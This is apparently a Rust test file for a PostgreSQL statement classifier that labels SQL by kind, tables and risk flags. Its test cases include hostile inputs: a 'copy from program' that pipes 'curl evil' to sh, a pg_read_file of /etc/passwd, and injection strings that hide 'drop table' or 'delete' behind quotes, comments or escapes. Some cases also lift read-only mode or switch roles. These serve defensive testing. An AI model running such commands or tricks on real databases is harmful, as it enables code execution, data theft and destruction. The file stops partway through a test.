//! Table-driven tests of the classifier, obfuscation attempts, and a never-panics property test.
use super::*;
use crate::policy::kinds::StmtKind as K;

fn flags_of(names: &[&str]) -> Flags {
    let mut f = Flags::empty();
    for n in names {
        match Flags::from_name(n) {
            Some(x) => f.insert(x),
            None => panic!("no flag {n}"),
        }
    }
    f
}

fn kinds_of(ks: &[K]) -> KindSet {
    let mut s = KindSet::empty();
    for k in ks {
        s.insert(*k);
    }
    s
}

fn only(sql: &str) -> Statement {
    let mut v = classify(sql);
    assert_eq!(v.len(), 1, "{sql:?} gave {v:#?}");
    v.remove(0)
}

/// The union of all statements' kinds.
fn all_kinds(sql: &str) -> KindSet {
    classify(sql)
        .iter()
        .fold(KindSet::empty(), |a, s| a.union(s.kinds))
}

/// (sql, kinds, tables, flags): one statement each.
type Case = (
    &'static str,
    &'static [K],
    &'static [&'static str],
    &'static [&'static str],
);

const CASES: &[Case] = &[
    // --- SELECT and friends ---
    ("SELECT abalance FROM pgbench_accounts WHERE aid = $1;", &[K::Select], &["pgbench_accounts"], &[]),
    ("select 1", &[K::Select], &[], &[]),
    ("SELECT * FROM a, b, c", &[K::Select], &["a", "b", "c"], &[]),
    ("select * from Public.Users u join \"Orders\" o on u.id = o.uid", &[K::Select], &["public.users", "Orders"], &[]),
    ("select * from \"My Schema\".t", &[K::Select], &["My Schema.t"], &[]),
    ("select * from \"a\"\"b\"", &[K::Select], &["a\"b"], &[]),
    ("select * from a left outer join b using (id), c", &[K::Select], &["a", "b", "c"], &[]),
    ("select * from a natural join b cross join c", &[K::Select], &["a", "b", "c"], &[]),
    ("select * from only a", &[K::Select], &["a"], &[]),
    ("select * from (select * from inner_t) s", &[K::Select], &["inner_t"], &[]),
    ("select * from (a join b on a.x = b.x)", &[K::Select], &["a", "b"], &[]),
    ("select * from a where x in (select y from b where z = (select 1 from c))", &[K::Select], &["a", "b", "c"], &[]),
    ("select * from a, lateral (select * from b where b.x = a.x) l", &[K::Select], &["a", "b"], &[]),
    ("select * from generate_series(1, 10) g", &[K::Select], &[], &[]),
    ("select extract(year from ts) from events", &[K::Select], &["events"], &[]),
    ("select * from t t1, t t2", &[K::Select], &["t"], &[]),
    ("select count(*) from db.s.t", &[K::Select], &["db.s.t"], &[]),
    ("SELECT a FROM t ORDER BY a, b LIMIT 1", &[K::Select], &["t"], &[]),
    ("select a from t group by a, b having count(*) > 1", &[K::Select], &["t"], &[]),
    ("values (1, 2), (3, 4)", &[K::Select], &[], &[]),
    ("TABLE users", &[K::Select], &["users"], &[]),
    ("table only s.users", &[K::Select], &["s.users"], &[]),
    ("(select 1 from a) union all (select 2 from b)", &[K::Select], &["a", "b"], &[]),
    ("select 1 from a union select 2 from b except select 3 from c", &[K::Select], &["a", "b", "c"], &[]),
    ("select exists (select 1 from a)", &[K::Select], &["a"], &[]),
    ("select pg_read_file('/etc/passwd')", &[K::Select], &[], &[]),
    ("select now()::date, $1, $2::int", &[K::Select], &[], &[]),
    ("select * into newtab from t", &[K::Select, K::Ddl], &["newtab", "t"], &["select_into"]),
    ("select a into temporary table tmp from t", &[K::Select, K::Ddl], &["tmp", "t"], &["select_into"]),
    ("select * from t for update", &[K::Select], &["t"], &["locking_read"]),
    ("select * from t for no key update of t nowait", &[K::Select], &["t"], &["locking_read"]),
    ("select * from t for share skip locked", &[K::Select], &["t"], &["locking_read"]),
    ("select * from t for key share", &[K::Select], &["t"], &["locking_read"]),
    ("select * from (select * from t for update) s", &[K::Select], &["t"], &["locking_read"]),
    ("select * from t fetch first 3 rows only", &[K::Select], &["t"], &[]),
    ("select set_config('search_path', '', false)", &[K::Select], &[], &["lifts_read_only"]),
    ("select pg_catalog.set_config('transaction_read_only', 'off', false)", &[K::Select], &[], &["lifts_read_only"]),
    ("select \"set_config\"('role', 'admin', false)", &[K::Select, K::SetRole], &[], &["lifts_read_only"]),
    ("select SET_CONFIG('ROLE', 'admin', false)", &[K::Select, K::SetRole], &[], &["lifts_read_only"]),
    ("select set_config($1, $2, false)", &[K::Select, K::SetRole], &[], &["lifts_read_only"]),
    ("select set_config(E'rol\\x65', 'x', false)", &[K::Select, K::SetRole], &[], &["lifts_read_only"]),
    ("select U&\"set\\005fconfig\"('a', 'b', false)", &[K::Select], &[], &["lifts_read_only"]),
    ("select * from U&\"d\\0061t\\+000061\"", &[K::Select], &["data"], &[]),
    ("select * from U&\"d!0061t\" UESCAPE '!'", &[K::Select], &["dat"], &[]),
    ("select 'it''s', E'a\\'b', $$x$$, $q$y$q$, B'0101', X'ff', U&'\\0041', N'n' from t", &[K::Select], &["t"], &[]),
    ("select 1.5e10, .5, 1_000, 0x1F from t", &[K::Select], &["t"], &[]),
    ("select a[1:2] from t", &[K::Select], &["t"], &[]),
    ("select $1abc$ from t", &[K::Select], &["t"], &[]),
    ("select row_number() over (partition by a order by b) from t", &[K::Select], &["t"], &[]),
    ("select count(*) filter (where x > 1) from t", &[K::Select], &["t"], &[]),
    ("select * from rows from (f(), g()) as x", &[K::Select], &[], &[]),
    ("select * from t tablesample bernoulli (10)", &[K::Select], &["t"], &[]),
    ("SeLeCt * FrOm UsErS", &[K::Select], &["users"], &[]),
    // --- WITH ---
    ("with x as (select * from a) select * from x", &[K::Select], &["a", "x"], &[]),
    ("with recursive r(n) as (select 1 union all select n + 1 from r) select * from r", &[K::Select], &["r"], &[]),
    ("with d as (delete from t returning *) select * from d", &[K::Delete, K::Select], &["t", "d"], &["no_where", "modifying_cte"]),
    ("with u as (update t set a = 1 where id = 2 returning *) select 1", &[K::Update, K::Select], &["t"], &["modifying_cte"]),
    ("with i as (insert into t values (1) returning *) select * from i", &[K::Insert, K::Select], &["t", "i"], &["modifying_cte"]),
    ("with m as materialized (select 1), n as not materialized (select 2) select * from m, n", &[K::Select], &["m", "n"], &[]),
    ("with a as (select 1) delete from t where id in (select * from a)", &[K::Select, K::Delete], &["t", "a"], &[]),
    ("with a as (select 1) insert into t select * from a", &[K::Select, K::Insert], &["t", "a"], &[]),
    ("with a as (with b as (delete from t) select 1) select * from a", &[K::Select, K::Delete], &["t", "a"], &["no_where", "modifying_cte"]),
    ("with recursive s as (select 1) search depth first by a, b set ord select * from s", &[K::Select], &["s"], &[]),
    ("with recursive s as (select 1) cycle a, b set c using p select * from s", &[K::Select], &["s"], &[]),
    ("WITH x AS (SELECT 1) SELECT * INTO y FROM x", &[K::Select, K::Ddl], &["y", "x"], &["select_into"]),
    // --- INSERT / UPDATE / DELETE / MERGE / TRUNCATE ---
    ("insert into t (a, b) values (1, 2)", &[K::Insert], &["t"], &[]),
    ("INSERT INTO s.t SELECT * FROM u JOIN v ON u.id = v.id", &[K::Insert, K::Select], &["s.t", "u", "v"], &[]),
    ("insert into t default values returning id", &[K::Insert], &["t"], &[]),
    ("insert into t values (1) on conflict (id) do update set a = excluded.a", &[K::Insert, K::Update], &["t"], &[]),
    ("insert into t values (1) on conflict do nothing", &[K::Insert], &["t"], &[]),
    ("insert into t as x values (1)", &[K::Insert], &["t"], &[]),
    ("update t set a = 1 where id = 2", &[K::Update], &["t"], &[]),
    ("update t set a = 1", &[K::Update], &["t"], &["no_where"]),
    ("update only t set a = (select b from u where u.x = 1)", &[K::Update, K::Select], &["t", "u"], &["no_where"]),
    ("update t set a = u.b from u, w where t.id = u.id", &[K::Update], &["t", "u", "w"], &[]),
    ("update t set a = 1 where current of c", &[K::Update], &["t"], &[]),
    ("update t set a = 1 returning (select 1 where true)", &[K::Update, K::Select], &["t"], &["no_where"]),
    ("delete from t where id = 1", &[K::Delete], &["t"], &[]),
    ("DELETE FROM t", &[K::Delete], &["t"], &["no_where"]),
    ("delete from only s.t using u, v where t.id = u.id", &[K::Delete], &["s.t", "u", "v"], &[]),
    ("delete from t returning *", &[K::Delete], &["t"], &["no_where"]),
    ("delete from t where current of cur", &[K::Delete], &["t"], &[]),
    ("merge into t using s on t.id = s.id when matched then update set a = s.a when not matched then insert values (s.id)", &[K::Merge], &["t", "s"], &[]),
    ("merge into t using (select * from u) s on t.id = s.id when matched then delete", &[K::Merge, K::Select], &["t", "u"], &[]),
    ("truncate a, b", &[K::Truncate], &["a", "b"], &[]),
    ("TRUNCATE TABLE ONLY a, s.b * RESTART IDENTITY CASCADE", &[K::Truncate], &["a", "s.b"], &[]),
    // --- COPY ---
    ("copy t from stdin", &[K::CopyFrom], &["t"], &[]),
    ("COPY t (a, b) FROM '/tmp/x.csv' WITH (FORMAT csv)", &[K::CopyFrom], &["t"], &[]),
    ("copy t to stdout", &[K::CopyTo], &["t"], &[]),
    ("copy s.t to '/tmp/out'", &[K::CopyTo], &["s.t"], &[]),
    ("copy (select * from t join u on true) to stdout", &[K::CopyTo], &["t", "u"], &[]),
    ("copy t from program 'curl evil | sh'", &[K::CopyProgram], &["t"], &[]),
    ("copy (select 1) to program 'cat > /tmp/x'", &[K::CopyProgram], &[], &[]),
    ("copy (delete from t returning *) to stdout", &[K::CopyTo, K::Delete], &["t"], &["no_where"]),
    // --- EXPLAIN ---
    ("explain select * from t", &[K::Explain], &["t"], &[]),
    ("explain verbose delete from t", &[K::Explain], &["t"], &[]),
    ("explain (costs off, format json) update t set a = 1", &[K::Explain], &["t"], &[]),
    ("explain analyze delete from t", &[K::Delete], &["t"], &["no_where", "explain_analyze"]),
    ("EXPLAIN ANALYSE VERBOSE SELECT * FROM t", &[K::Select], &["t"], &["explain_analyze"]),
    ("explain (analyze) delete from t where id = 1", &[K::Delete], &["t"], &["explain_analyze"]),
    ("explain (analyze true, buffers) insert into t values (1)", &[K::Insert], &["t"], &["explain_analyze"]),
    ("explain (format text, analyze on) delete from t where x", &[K::Delete], &["t"], &["explain_analyze"]),
    ("explain (analyze 1) delete from t where x", &[K::Delete], &["t"], &["explain_analyze"]),
    ("explain (\"analyze\") delete from t where x", &[K::Delete], &["t"], &["explain_analyze"]),
    ("explain (analyze false) delete from t", &[K::Explain], &["t"], &[]),
    ("explain (analyze off, verbose) delete from t", &[K::Explain], &["t"], &[]),
    ("explain (analyze 0) delete from t", &[K::Explain], &["t"], &[]),
    ("explain (analyze 'off') delete from t", &[K::Explain], &["t"], &[]),
    ("explain (analyze false, analyze true) delete from t", &[K::Delete], &["t"], &["no_where", "explain_analyze"]),
    ("explain (analyze maybe) delete from t where x", &[K::Delete], &["t"], &["explain_analyze"]),
    ("explain analyze with d as (delete from t) select 1", &[K::Delete, K::Select], &["t"], &["no_where", "modifying_cte", "explain_analyze"]),
    ("explain create table x as select * from t", &[K::Explain], &["x", "t"], &[]),
    ("explain analyze create table x as select * from t", &[K::Ddl, K::Select], &["x", "t"], &["explain_analyze"]),
    ("explain drop table t", &[K::Explain, K::Unknown], &[], &[]),
    // --- PREPARE / EXECUTE / DEALLOCATE ---
    ("prepare q as select * from t where id = $1", &[K::Select], &["t"], &[]),
    ("PREPARE del (int) AS DELETE FROM t WHERE id = $1", &[K::Delete], &["t"], &[]),
    ("prepare x as drop table t", &[K::Unknown], &[], &[]),
    ("execute q", &[], &[], &[]),
    ("execute q(1, 'a')", &[], &[], &[]),
    ("execute q((select secret from s))", &[K::Select], &["s"], &[]),
    ("deallocate q", &[K::Deallocate], &[], &[]),
    ("deallocate prepare q", &[K::Deallocate], &[], &[]),
    ("DEALLOCATE ALL", &[K::Deallocate], &[], &[]),
    ("prepare transaction 'gid'", &[K::Transaction], &[], &[]),
    // --- DO / CALL ---
    ("do $$begin delete from t; end$$", &[K::Call], &[], &[]),
    ("do language plpgsql $x$ begin perform 1; end $x$", &[K::Call], &[], &[]),
    ("call my_proc(1, 2)", &[K::Call], &[], &[]),
    // --- transactions ---
    ("begin", &[K::Transaction], &[], &[]),
    ("BEGIN ISOLATION LEVEL SERIALIZABLE", &[K::Transaction], &[], &[]),
    ("begin read write", &[K::Transaction], &[], &["lifts_read_only"]),
    ("begin transaction read only", &[K::Transaction], &[], &[]),
    ("start transaction isolation level read committed, read write", &[K::Transaction], &[], &["lifts_read_only"]),
    ("start transaction", &[K::Transaction], &[], &[]),
    ("commit", &[K::Transaction], &[], &[]),
    ("commit and chain", &[K::Transaction], &[], &[]),
    ("end", &[K::Transaction], &[], &[]),
    ("rollback to savepoint a", &[K::Transaction], &[], &[]),
    ("abort", &[K::Transaction], &[], &[]),
    ("savepoint a", &[K::Transaction], &[], &[]),
    ("release savepoint a", &[K::Transaction], &[], &[]),
    ("commit prepared 'gid'", &[K::Transaction], &[], &[]),
    ("rollback prepared 'gid'", &[K::Transaction], &[], &[]),
    ("set transaction read write", &[K::Transaction], &[], &["lifts_read_only"]),
    ("set transaction isolation level repeatable read", &[K::Transaction], &[], &[]),
    ("set local transaction read write", &[K::Transaction], &[], &["lifts_read_only"]),
    ("set transaction snapshot '00000003-0000001B-1'", &[K::Transaction], &[], &[]),
    ("set session characteristics as transaction read write", &[K::Set], &[], &["lifts_read_only"]),
    ("set session characteristics as transaction read only", &[K::Set], &[], &[]),
    // --- SET / RESET / SHOW ---
    ("set role admin", &[K::SetRole], &[], &[]),
    ("SET SESSION ROLE admin", &[K::SetRole], &[], &[]),
    ("set local role none", &[K::SetRole], &[], &[]),
    ("set role = 'admin'", &[K::SetRole], &[], &[]),
    ("set \"ROLE\" to admin", &[K::SetRole], &[], &[]),
    ("set session authorization 'bob'", &[K::SetRole], &[], &[]),
    ("set session session authorization default", &[K::SetRole], &[], &[]),
    ("set session_authorization = bob", &[K::SetRole], &[], &[]),
    ("reset role", &[K::SetRole], &[], &[]),
    ("reset session authorization", &[K::SetRole], &[], &[]),
    ("reset all", &[K::SetRole], &[], &["lifts_read_only"]),
    ("set transaction_read_only = off", &[K::Set], &[], &["lifts_read_only"]),
    ("SET default_transaction_read_only TO false", &[K::Set], &[], &["lifts_read_only"]),
    ("set session \"Default_Transaction_Read_Only\" = off", &[K::Set], &[], &["lifts_read_only"]),
    ("set local U&\"transaction\\005fread_only\" = off", &[K::Set], &[], &["lifts_read_only"]),
    ("reset transaction_read_only", &[K::Set], &[], &["lifts_read_only"]),
    ("RESET DEFAULT_TRANSACTION_READ_ONLY", &[K::Set], &[], &["lifts_read_only"]),
    ("set search_path = public, pg_catalog", &[K::Set], &[], &[]),
    ("set statement_timeout to '5s'", &[K::Set], &[], &[]),
    ("set time zone 'UTC'", &[K::Set], &[], &[]),
    ("set my.custom = 1", &[K::Set], &[], &[]),
    ("set transaction_read_only.x = 1", &[K::Set], &[], &[]),
    ("reset search_path", &[K::Set], &[], &[]),
    ("show transaction_read_only", &[K::Show], &[], &[]),
    ("show all", &[K::Show], &[], &[]),
    ("set search_path = (select 1)", &[K::Set], &[], &[]),
    // --- DCL / DDL ---
    ("grant select on t to bob", &[K::Dcl], &[], &[]),
    ("revoke all on schema s from public", &[K::Dcl], &[], &[]),
    ("create role x login password 'p'", &[K::Dcl], &[], &[]),
    ("create user x", &[K::Dcl], &[], &[]),
    ("alter user x superuser", &[K::Dcl], &[], &[]),
    ("alter role x set default_transaction_read_only = off", &[K::Dcl], &[], &[]),
    ("drop group g", &[K::Dcl], &[], &[]),
    ("alter default privileges grant select on tables to bob", &[K::Dcl], &[], &[]),
    ("reassign owned by a to b", &[K::Dcl], &[], &[]),
    ("drop owned by a", &[K::Dcl], &[], &[]),
    ("create user mapping for bob server s", &[K::Ddl], &[], &[]),
    ("create table t (a int primary key, b text)", &[K::Ddl], &["t"], &[]),
    ("create temp table if not exists s.t (a int)", &[K::Ddl], &["s.t"], &[]),
    ("create table x as select * from t", &[K::Ddl, K::Select], &["x", "t"], &[]),
    ("create table x as execute q", &[K::Ddl], &["x"], &[]),
    ("create table x as with d as (delete from t returning *) select * from d", &[K::Ddl, K::Delete, K::Select], &["x", "t", "d"], &["no_where", "modifying_cte"]),
    ("create or replace view v as select * from t", &[K::Ddl, K::Select], &["v", "t"], &[]),
    ("create materialized view mv as select * from t with no data", &[K::Ddl, K::Select], &["mv", "t"], &[]),
    ("create unique index concurrently i on only t (a)", &[K::Ddl], &["t"], &[]),
    ("create index on s.t using btree (a)", &[K::Ddl], &["s.t"], &[]),
    ("create trigger tr after insert on t for each row execute function f()", &[K::Ddl], &["t"], &[]),
    ("create schema s create table t (a int) grant select on t to bob", &[K::Ddl, K::Dcl], &[], &[]),
    ("create extension pgcrypto", &[K::Ddl], &[], &[]),
    ("create function f() returns int language sql as $$ select 1; $$", &[K::Ddl], &[], &[]),
    ("alter table t add column c int", &[K::Ddl], &["t"], &[]),
    ("alter table if exists only s.t rename to u", &[K::Ddl], &["s.t"], &[]),
    ("alter system set default_transaction_read_only = off", &[K::Ddl], &[], &[]),
    ("alter foreign data wrapper w options (a 'b')", &[K::Ddl], &[], &[]),
    ("drop table if exists a, s.b cascade", &[K::Ddl], &["a", "s.b"], &[]),
    ("drop index i", &[K::Ddl], &[], &[]),
    ("drop foreign data wrapper w", &[K::Ddl], &[], &[]),
    ("comment on table t is 'x'", &[K::Ddl], &[], &[]),
    ("security label on table t is 'x'", &[K::Ddl], &[], &[]),
    ("reindex table t", &[K::Ddl], &[], &[]),
    ("cluster t using i", &[K::Ddl], &[], &[]),
    ("refresh materialized view concurrently s.mv", &[K::Ddl], &["s.mv"], &[]),
    ("import foreign schema s from server f into public", &[K::Ddl], &[], &[]),
    // --- misc ---
    ("listen chan", &[K::Listen], &[], &[]),
    ("unlisten *", &[K::Listen], &[], &[]),
    ("notify chan, 'payload'", &[K::Notify], &[], &[]),
    ("lock table t in access exclusive mode", &[K::Lock], &["t"], &[]),
    ("lock a, only s.b", &[K::Lock], &["a", "s.b"], &[]),
    ("vacuum full analyze t", &[K::Maintenance], &[], &[]),
    ("analyze t", &[K::Maintenance], &[], &[]),
    ("checkpoint", &[K::Maintenance], &[], &[]),
    ("load 'auto_explain'", &[K::Maintenance], &[], &[]),
    ("discard plans", &[K::Maintenance], &[], &[]),
    ("discard all", &[K::Maintenance, K::SetRole], &[], &[]),
    ("declare c cursor for select * from t", &[K::Select], &["t"], &[]),
    ("declare c binary insensitive no scroll cursor with hold for select 1 from t for update", &[K::Select], &["t"], &["locking_read"]),
    ("declare c cursor for with d as (delete from t) select 1", &[K::Delete, K::Select], &["t"], &["no_where", "modifying_cte"]),
    ("fetch next from c", &[K::Select], &[], &[]),
    ("move forward 5 in c", &[K::Select], &[], &[]),
    ("close c", &[K::Select], &[], &[]),
    // --- unknown ---
    ("vaccum t", &[K::Unknown], &[], &[]),
    ("DEL/**/ETE FROM t", &[K::Unknown], &[], &[]),
    ("delete t", &[K::Delete, K::Unknown], &[], &[]),
    ("insert t values (1)", &[K::Insert, K::Unknown], &[], &[]),
    ("select 'unterminated", &[K::Unknown], &[], &[]),
    ("select \"unterminated", &[K::Unknown], &[], &[]),
    ("select $$unterminated", &[K::Unknown], &[], &[]),
    ("select $a$ x $b$", &[K::Unknown], &[], &[]),
    ("select 1 /* unterminated", &[K::Unknown], &[], &[]),
    ("select 1 /* /* nested */ still open", &[K::Unknown], &[], &[]),
    ("select E'\\'", &[K::Unknown], &[], &[]),
    ("select (1", &[K::Unknown], &[], &[]),
    ("select 1)", &[K::Unknown], &[], &[]),
    ("select \"\" from t", &[K::Unknown], &[], &[]),
    ("select 1\0; delete from t", &[K::Unknown], &[], &[]),
    ("42", &[K::Unknown], &[], &[]),
    ("\"select\" 1", &[K::Unknown], &[], &[]),
    ("start", &[K::Unknown], &[], &[]),
    ("with x as (select 1)", &[K::Select, K::Unknown], &[], &[]),
    ("with x (select 1) select 1", &[K::Unknown], &[], &[]),
    ("with x as (drop table t) select 1", &[K::Select, K::Unknown], &[], &[]),
    ("with x as (select 1) drop table t", &[K::Select, K::Unknown], &[], &[]),
    ("copy t somewhere", &[K::Unknown], &["t"], &[]),
    ("copy t from somefile", &[K::Unknown], &["t"], &[]),
    ("select * from U&\"bad\\zzzz\"", &[K::Select, K::Unknown], &[], &[]),
    ("select * from U&\"x\" UESCAPE 'a'", &[K::Select, K::Unknown], &[], &[]),
    ("select B'01\\' from t", &[K::Unknown], &[], &[]),
    ("select 1 where a = b; ", &[K::Select], &[], &[]),
    // non-breaking space is an identifier character for PostgreSQL: `delete\u{a0}from` is one word
    ("delete\u{a0}from t", &[K::Unknown], &[], &[]),
    ("ſelect 1", &[K::Unknown], &[], &[]),
];

#[test]
fn classifies_table_of_single_statements() {
    assert!(CASES.len() >= 150, "{} cases", CASES.len());
    let mut failures = Vec::new();
    for (sql, kinds, tables, flags) in CASES {
        let v = classify(sql);
        let ok = v.len() == 1
            && v[0].kinds == kinds_of(kinds)
            && v[0]
                .tables
                .iter()
                .map(String::as_str)
                .eq(tables.iter().copied())
            && v[0].flags == flags_of(flags);
        if !ok {
            failures.push(format!(
                "{sql:?}\n  want {kinds:?} {tables:?} {flags:?}\n  got  {:?}",
                v.iter()
                    .map(|s| (
                        s.kinds.iter().collect::<Vec<_>>(),
                        &s.tables,
                        s.flags.names().collect::<Vec<_>>()
                    ))
                    .collect::<Vec<_>>()
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn classifies_pgbench_select_as_one_select() {
    let sql = "SELECT abalance FROM pgbench_accounts WHERE aid = $1;";
    let s = only(sql);
    assert_eq!(s.kinds, KindSet::one(K::Select));
    assert_eq!(s.tables, vec!["pgbench_accounts".to_string()]);
    assert_eq!(s.flags, Flags::empty());
    assert_eq!(s.span, 0..sql.len() - 1);
    assert_eq!(s.prepared, None);
}

#[test]
fn classifies_empty_inputs_as_one_empty() {
    for sql in [
        "",
        "   ",
        ";",
        " ; ;; ",
        "-- just a comment",
        "/* c */ ; /* d /* e */ */",
    ] {
        let v = classify(sql);
        assert_eq!(v.len(), 1, "{sql:?}");
        assert_eq!(v[0].kinds, KindSet::one(K::Empty), "{sql:?}");
        assert_eq!(v[0].span, 0..sql.len());
    }
}

#[test]
fn splits_multi_statement_strings_and_skips_empty_ones() {
    let sql = "select 1; drop table x;; /* c */ ;\n insert into t values (1)";
    let v = classify(sql);
    assert_eq!(v.len(), 3, "{v:#?}");
    assert_eq!(v[0].kinds, KindSet::one(K::Select));
    assert_eq!(&sql[v[0].span.clone()], "select 1");
    assert_eq!(v[1].kinds, KindSet::one(K::Ddl));
    assert_eq!(&sql[v[1].span.clone()], "drop table x");
    assert_eq!(v[2].kinds, KindSet::one(K::Insert));
    assert_eq!(&sql[v[2].span.clone()], "insert into t values (1)");
}

#[test]
fn rejects_hiding_semicolons_in_strings_comments_and_quotes() {
    // Each of these is ONE select: the `;` is inside something.
    for sql in [
        "select ';drop table x;'",
        "select 'a'';drop table x;--'",
        "select E'\\';drop table x;--'",
        "select E'\\\\'';drop table x;--'",
        "select $$;drop table x;$$",
        "select $t$ $$ ; drop table x; $$ $t$",
        "select $a;b$ from t",
        "select 1 /* ; drop table x; */",
        "select 1 /* /* ; */ drop table x; */",
        "select 1 -- ; drop table x",
        "select \"a;drop table x\" from t",
        "select U&'\\0041;drop table x'",
    ] {
        let kinds = all_kinds(sql);
        assert!(
            !kinds.contains(K::Ddl),
            "{sql:?} hid a DDL: {:#?}",
            classify(sql)
        );
    }
    // `$a;b$` is not a dollar quote (`;` is no tag character): the `;` splits.
    assert!(all_kinds("select $a;drop table x; select $a$ $a$").contains(K::Ddl));
}

#[test]
fn rejects_statements_after_strings_that_end_early() {
    // The obfuscation many filters miss: the string ends, the DROP runs.
    for sql in [
        "select E'\\\\'; drop table x; --'",
        "select 'a\\'; drop table x; --",
        "select $$x$$; drop table x",
        "select $tag$ $other$ $tag$; drop table x",
        "select 1 /* /* */ */; drop table x",
        "select \"a\"\"\"; drop table x",
        "select 1 --\r; drop table x",
        "select 2*/**/3; drop table x",
    ] {
        let kinds = all_kinds(sql);
        assert!(
            kinds.contains(K::Ddl) || kinds.contains(K::Unknown),
            "{sql:?}: {:#?}",
            classify(sql)
        );
    }
}

#[test]
fn rejects_strings_that_change_meaning_without_standard_conforming_strings() {
    // With standard_conforming_strings off, `\'` escapes the quote and the DELETE runs; on, it is
    // inside the literal. We can't know the session setting: Unknown.
    let v = classify("select 'a\\''; delete from t; select 1 --'");
    assert!(v.iter().any(|s| s.kinds.contains(K::Unknown)), "{v:#?}");
    // Backslashes that don't change where the literal ends are fine.
    let s = only("select 'C:\\dir\\file', '\\\\' from t");
    assert_eq!(s.kinds, KindSet::one(K::Select));
}

#[test]
fn rejects_deep_nesting() {
    let deep = format!(
        "select {}1{}",
        "(".repeat(MAX_DEPTH + 1),
        ")".repeat(MAX_DEPTH + 1)
    );
    assert_eq!(only(&deep).kinds, KindSet::one(K::Unknown));
    let ok = format!(
        "select {}1{}",
        "(".repeat(MAX_DEPTH - 1),
        ")".repeat(MAX_DEPTH - 1)
    );
    assert_eq!(only(&ok).kinds, KindSet::one(K::Select));
    let sub = format!(
        "select {}1{}",
        "(select ".repeat(MAX_DEPTH + 5),
        ")".repeat(MAX_DEPTH + 5)
    );
    assert!(only(&sub).kinds.contains(K::Unknown));
    let explains = format!("{}select 1", "explain ".repeat(100_000));
    assert!(only(&explains).kinds.contains(K::Unknown));
    let huge = "(".repeat(1_000_000);
    assert_eq!(only(&huge).kinds, KindSet::one(K::Unknown));
}

#[test]
fn classifies_modifying_cte_and_explain_analyze_and_prepare_of_delete() {
    let s = only("WITH gone AS (DELETE FROM accounts RETURNING *) SELECT count(*) FROM gone");
    assert!(s.kinds.contains(K::Delete) && s.flags.contains(Flags::MODIFYING_CTE));

    let s = only("EXPLAIN ANALYZE DELETE FROM accounts");
    assert_eq!(s.kinds, KindSet::one(K::Delete));
    assert!(s.flags.contains(Flags::EXPLAIN_ANALYZE) && s.flags.contains(Flags::NO_WHERE));

    let s = only("PREPARE p(int) AS DELETE FROM accounts WHERE id = $1");
    assert_eq!(s.kinds, KindSet::one(K::Delete));
    assert_eq!(s.prepared, Some(PreparedRef::Define("p".into())));
}

#[test]
fn classifies_prepared_references() {
    assert_eq!(
        only("prepare Foo as select 1").prepared,
        Some(PreparedRef::Define("foo".into()))
    );
    assert_eq!(
        only("prepare \"Foo\" as select 1").prepared,
        Some(PreparedRef::Define("Foo".into()))
    );
    assert_eq!(
        only("execute FOO(1)").prepared,
        Some(PreparedRef::Execute("foo".into()))
    );
    assert_eq!(only("execute FOO(1)").kinds, KindSet::empty());
    assert_eq!(
        only("deallocate prepare \"Foo\"").prepared,
        Some(PreparedRef::Deallocate(Some("Foo".into())))
    );
    assert_eq!(
        only("deallocate all").prepared,
        Some(PreparedRef::Deallocate(None))
    );
    assert_eq!(
        only("deallocate \"all\"").prepared,
        Some(PreparedRef::Deallocate(Some("all".into())))
    );
    assert_eq!(
        only("discard all").prepared,
        Some(PreparedRef::Deallocate(None))
    );
    let s = only("explain analyze execute p(1)");
    assert_eq!(s.prepared, Some(PreparedRef::Execute("p".into())));
    assert!(s.flags.contains(Flags::EXPLAIN_ANALYZE));
    let s = only("explain execute p(1)");
    assert_eq!(s.prepared, None);
    assert_eq!(s.kinds, KindSet::one(K::Explain));
    assert!(only("execute p(1) extra").kinds.contains(K::Unknown));
    assert!(only("prepare p as").kinds.contains(K::Unknown));
}

#[test]
fn classifies_begin_atomic_function_body_as_one_statement() {
    let sql = "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; SELECT CASE WHEN true THEN 1 END; END; select 2";
    let v = classify(sql);
    assert_eq!(v.len(), 2, "{v:#?}");
    assert_eq!(v[0].kinds, KindSet::one(K::Ddl));
    assert!(sql[v[0].span.clone()].ends_with("END"));
    assert_eq!(v[1].kinds, KindSet::one(K::Select));
    // Unterminated body: Unknown.
    assert_eq!(
        only("create procedure p() begin atomic delete from t;").kinds,
        KindSet::one(K::Unknown)
    );
    // `begin atomic` only counts at depth 0 of a CREATE FUNCTION: a parameter can't swallow the rest.
    let v = classify(
        "create function f(begin atomic) returns int language sql as 'select 1'; delete from t",
    );
    assert!(v.iter().any(|s| s.kinds.contains(K::Delete)), "{v:#?}");
    // Not a routine: BEGIN is a transaction.
    let v = classify("begin atomic; delete from t");
    assert!(v.iter().any(|s| s.kinds.contains(K::Delete)), "{v:#?}");
}

#[test]
fn rejects_semicolon_inside_parentheses_outside_create() {
    assert!(only("select (1; delete from t)").kinds.contains(K::Unknown));
    // A rule's action list legitimately holds `;` in parentheses.
    let s =
        only("create rule r as on insert to t do also (insert into a values (1); delete from b)");
    assert_eq!(s.kinds, KindSet::one(K::Ddl));
}

#[test]
fn classifies_obfuscated_case_and_comments() {
    let s = only("/* hi */ DeLeTe /* x */ FROM -- c\n \"T\" wHeRe 1=1");
    assert_eq!(s.kinds, KindSet::one(K::Delete));
    assert_eq!(s.tables, vec!["T".to_string()]);
    assert_eq!(s.flags, Flags::empty());
    // A quoted keyword is an identifier, not a keyword.
    assert!(only("\"delete\" from t").kinds.contains(K::Unknown));
    // Tabs, form feeds, vertical tabs and CRs separate tokens.
    assert_eq!(
        only("delete\t\x0bfrom\x0ct\r\n").kinds,
        KindSet::one(K::Delete)
    );
}

#[test]
fn classifies_spans_without_separators_or_surrounding_comments() {
    let sql = "  /* a */ select 1 ; -- x\n update t set a = 1 where b ;";
    let v = classify(sql);
    assert_eq!(v.len(), 2);
    assert_eq!(&sql[v[0].span.clone()], "select 1");
    assert_eq!(&sql[v[1].span.clone()], "update t set a = 1 where b");
    let sql = "select 1; select 'open";
    let v = classify(sql);
    assert_eq!(v[1].kinds, KindSet::one(K::Unknown));
    assert_eq!(&sql[v[1].span.clone()], "select 'open");
}

#[test]
fn classifies_tables_deduplicated_capped_and_truncated() {
    let s = only("select * from a, A, \"a\", b, a");
    assert_eq!(s.tables, vec!["a".to_string(), "b".to_string()]);
    let many: Vec<String> = (0..100).map(|i| format!("t{i}")).collect();
    let s = only(&format!("select * from {}", many.join(", ")));
